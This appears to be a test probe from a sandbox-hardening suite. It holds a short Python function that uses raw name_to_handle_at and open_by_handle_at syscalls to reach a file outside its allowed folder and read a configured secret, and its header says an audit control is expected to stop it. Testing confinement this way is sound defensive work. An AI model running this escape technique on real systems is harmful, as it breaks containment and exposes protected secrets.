# tries: open a file by its handle, past its folder
# stopped by: audit
# proof: secret
# machine: x86_64
import ctypes
import os


def probe(place):
    libc = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(b"\x80\0\0\0" + b"\0" * 140)
    mount = ctypes.c_int()
    path = place["secrets"]["project"].encode()
    if libc.syscall(303, -100, path, handle, ctypes.byref(mount), 0) < 0:
        return "refused"
    fd = libc.syscall(304, -100, handle, os.O_RDONLY)
    return os.read(fd, 4096) if fd >= 0 else "refused"
